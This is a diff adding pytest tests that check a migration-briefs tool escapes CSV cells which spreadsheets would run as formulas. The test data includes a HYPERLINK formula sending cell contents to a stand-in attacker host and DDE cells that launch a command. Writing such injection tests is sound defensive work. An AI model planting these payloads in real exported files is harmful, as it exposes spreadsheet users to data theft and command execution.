@@ -492,3 +492,32 @@ def test_charts_draw_chinese_in_the_bundled_font_not_as_boxes(caplog):
     used = fontManager._find_fonts_by_props(FontProperties(family=style["font.family"]))
     assert [Path(p).name for p in used] == ["DejaVuSans.ttf", "NotoSansSC-Regular.otf"]
     assert {Path(p).parent for p in used} == {path.parent for _, path in fonts.faces()}
+
+
+# --- CSV cells a spreadsheet would run ---------------------------------------------------------
+
+@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
+                                     "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
+def test_csv_cells_that_start_a_formula_are_written_as_text(write_contribution, payload):
+    import csv
+    import io
+
+    from migration_briefs import load
+    from migration_briefs.briefs import overview_brief
+    escaped = payload.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
+    root = write_contribution(VALID_CONTRIBUTION.replace("title: Chaired the Global Migration Group",
+                                                         f'title: "{escaped}"')
+                              .replace("summary: UN Women chaired the inter-agency group in 2016.",
+                                       f'summary: "{escaped}"'))
+    tables = {t["name"]: t["csv"] for t in overview_brief(2016, "un-women", load(root)).data_tables()}
+    rows = list(csv.DictReader(io.StringIO(tables["items"], newline="")))
+    assert rows[0]["title"] == rows[0]["summary"] == "'" + payload.strip()  # the model trims text fields
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for name in tables
+               for row in csv.reader(io.StringIO(tables[name], newline="")) for cell in row)
+
+
+@pytest.mark.parametrize("value, written", [("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("-3", "'-3"),
+                                            ("Plain text", "Plain text"), ("a=b", "a=b"), (2016, 2016)])
+def test_the_spreadsheet_rule_covers_every_formula_start(value, written):
+    from migration_briefs.briefs import spreadsheet_safe
+    assert spreadsheet_safe(value) == written
